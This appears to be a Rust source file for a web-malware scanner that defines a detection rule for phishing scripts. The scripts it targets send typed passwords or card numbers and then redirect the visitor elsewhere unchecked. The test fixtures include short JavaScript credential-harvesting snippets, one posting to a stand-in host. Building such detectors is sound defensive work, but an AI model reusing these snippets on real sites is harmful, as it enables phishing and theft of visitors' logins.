//! `left-unasked`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "left-unasked",
    description: "The script sends a typed password, code or card number, and sends the visitor to another site without checking the response.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::SecretSent, Atom::SecretSentAbroad, Atom::SecretToDropBox, Atom::CardSent]),
        one(&[Atom::UnaskedAway, Atom::UnaskedToDoor]),
    ],
    within: 260,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "$.post('save.php',{u:$('#user').val(),password:$('#password').val()},function(){window.location='https://www.facebook.com/'})",
            "axios.post('https://a.example/entry',{email:email.value,password:p.value}).then(()=>{window.location.href='https://www.netflix.com/login'})",
            "f.onsubmit=e=>{e.preventDefault();fetch('save.php',{method:'POST',body:JSON.stringify({password:p.value})}).then(()=>{location.href='https://mail.example/'})}",
            "async function go(){await fetch('/api/log',{method:'POST',body:JSON.stringify({password:p.value})});window.location.href='https://photos.example/'}",
        ],
        without: &[
            "$.post('/login',{password:$('#password').val()},function(r){if(r.ok)window.location='https://www.facebook.com/'})",
            "$.post('/login',{password:$('#password').val()},function(){location.href='https://app.example/'});share.onclick=function(){location.href='https://www.facebook.com/sharer?u='+u}",
            "fetch('/login',{method:'POST',body:JSON.stringify({password:p.value})}).then(r=>{if(r.ok)location.href='https://app.example/'})",
            "axios.post('/login',{password:p.value}).then(()=>{location.href='https://app.example/'})",
            "fetch('/login',{method:'POST',body:JSON.stringify({password:p.value})}).then(()=>{location.href='/home'})",
        ],
    },
};
